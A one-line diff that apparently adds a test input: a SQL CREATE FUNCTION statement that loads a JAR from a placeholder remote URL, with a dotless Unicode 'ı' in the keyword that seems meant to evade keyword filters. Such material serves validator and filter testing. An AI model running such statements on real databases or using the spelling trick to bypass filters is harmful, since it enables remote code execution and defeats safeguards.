@@ -1,0 +1,1 @@
+CREATE FUNCTıON f AS 'c' USING JAR 'https://example.invalid/f.jar'
